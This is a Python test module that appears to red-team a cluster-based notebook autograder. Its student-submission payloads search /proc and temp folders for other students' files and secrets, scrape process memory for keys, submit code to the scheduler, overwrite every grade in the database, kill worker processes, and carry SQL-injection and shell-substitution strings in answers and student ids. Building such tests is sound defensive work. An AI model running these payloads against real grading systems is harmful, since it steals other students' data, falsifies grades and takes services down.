"""Attacks on what is beside the grader where it works on a cluster: the scheduler, the workers, the database."""

from __future__ import annotations

from tests.grading.attacks.corpus.read import PUBLISH, reads
from tests.grading.attacks.course import ALL
from tests.grading.attacks.model import (
    DECEIVE,
    HARM,
    READ,
    Attack,
    Corpus,
    Evidence,
    Submission,
    harmed,
    leaked,
    lost,
    others_harmed,
)

BESIDE = "stock nbgrader grades on one machine"
NAMES = "stock nbgrader takes such names as well; they are tried here for the sake of the database and the wire"


def reached(evidence: Evidence) -> bool:
    return "reached the" in evidence.outputs or harmed(evidence)


read = Corpus(READ, leaked)
harm = Corpus(HARM, reached)
odd = Corpus(DECEIVE, lambda found: others_harmed(found) or lost(found))


@read("searches the worker's folders and memory for others' submissions", in_depth=BESIDE)
def others_on_the_worker(work: Submission) -> None:
    reads(
        work,
        """
import tempfile
here = os.getcwd()
for top in {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "$WORKERS", here, os.path.dirname(here)}:
    for folder, folders, names in os.walk(top):
        for name in names[:200]:
            take_file(os.path.join(folder, name))
for number in [name for name in os.listdir("/proc") if name.isdigit()]:
    for name in ("environ", "cmdline", "mem"):
        take_file(f"/proc/{number}/{name}")
    for link in glob.glob(f"/proc/{number}/fd/*") + glob.glob(f"/proc/{number}/cwd/*"):
        if not link.endswith(("/0", "/1", "/2")) and os.path.isfile(link):
            take_file(link)
""",
    )


@read("looks for the work of whoever was graded before in the same worker", in_depth=BESIDE)
def others_in_memory(work: Submission) -> None:
    work.first(
        PUBLISH
        + """
import ctypes
for line in open("/proc/self/maps"):
    span, rights, *_ = line.split()
    if rights.startswith("rw") and "[v" not in line and "/" not in line:
        start, end = (int(part, 16) for part in span.split("-"))
        for place in range(start, min(end, start + (1 << 28)), 1 << 22):
            part = ctypes.string_at(place, min(1 << 22, end - place))
            take(*re.findall(rb"[a-z]+-key-[0-9a-f]{12}", part))
publish()
"""
    )


@harm("connects to the scheduler, which runs whatever it is given", in_depth=BESIDE)
def connects_to_the_scheduler(work: Submission) -> None:
    work.last("""
import socket
host, port = "$SCHEDULER".rpartition("/")[2].split(":")
for host in (host, "localhost", "0.0.0.0"):
    try:
        with socket.create_connection((host, int(port)), timeout=2):
            print("reached", "the scheduler")
    except OSError as error:
        print(error)
from distributed import Client
client = Client("$SCHEDULER", timeout=1)
client.submit(lambda: open("$DROP/$ATTACK", "w").close()).result()
""")


@harm("connects to the database, which trusts whoever reaches it", in_depth=BESIDE)
def connects_to_the_database(work: Submission) -> None:
    work.last("""
import glob, socket
for path in glob.glob("$DATABASE/.s.PGSQL.*") + glob.glob("/tmp/*/.s.PGSQL.*") + ["$DATABASE/.s.PGSQL.5432"]:
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(path)
            print("reached", "the database")
    except OSError as error:
        print(error)
import psycopg
with psycopg.connect(host="$DATABASE", user="grader", dbname="$NAME") as book:
    book.execute("update grade set manual_score = 99")
    print("reached", "the gradebook")
""")


@harm("ends every process that it can name, to bring the worker down", in_depth=BESIDE)
def ends_the_worker(work: Submission) -> None:
    work.last("""
import os, signal
for number in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    try:
        name = open(f"/proc/{number}/cmdline").read()
    except OSError:
        continue
    if "$WORKERS" in name or "distributed" in name:
        os.kill(number, signal.SIGKILL)
        print("reached", "the worker")
""")


@odd("has messages that no database and no file holds", in_depth=NAMES, earns="total")
def odd_messages(work: Submission) -> None:
    work.solve("total")
    work.answer("scale", "def scale(values):\n    raise ValueError('\\x00\\ud800 \\' \" ; -- \\\\ %s %(x)s :x {} 😀')")
    work.answer("mean", "def mean(numbers):\n    raise ValueError('\\x00x😀\\'' * 250_000)")
    work.answer("guess", "def guess():\n    raise type('E\\x00\\ud800\\'', (Exception,), {})('\\x00' * 1_000_000)")
    work.answer("lowest", "def lowest(loss, candidates):\n    print('\\x00\\ud800' * 1000)\n    return '\\x00\\ud800'")
    work.answer("why", "Because \x00 of \ud800 '; drop table grade; -- 😀")
    work.last("print('\\x00\\ud800😀' * 100_000)\nraise ValueError('\\x00')")


@odd("hands in cells and files with names that no database holds", in_depth=NAMES, earns=ALL)
def odd_names(work: Submission) -> None:
    work.solve()
    for number, cell in enumerate(list(work.cells)[:4]):
        work.cells.append(
            {**cell, "id": f"odd-{number}", "metadata": {"nbgrader": {"grade_id": f"'\x00\ud800😀{number}"}}}
        )
    work.notebook["metadata"]["kernelspec"] = {"name": "\x00'; drop table student; --"}
    work.file('it\'s 100% "fine" 😀.txt', "\x00\udfff".encode("utf-8", "surrogatepass"))
    work.file("timestamp.txt", "2026-11-02 10:00:00 UTC\x00")


def solved(work: Submission) -> None:
    work.solve()


# Students whose ids are odd: they are the names of folders, and those come from the exchange.
IDS = (
    "o'neill",
    'quo"te',
    "a; drop table student; --",
    "100%s-%(id)s",
    ":name",
    "😀-𝔘𝔫𝔦",
    "ünï-\u0301",
    "a b",
    "$(id)",
    "-f",
)
CLUSTER: tuple[Attack, ...] = (
    *read.attacks,
    *harm.attacks,
    *odd.attacks,
    *(Attack(name, DECEIVE, "has an odd id", solved, odd.judgement, NAMES, ALL) for name in IDS),
)
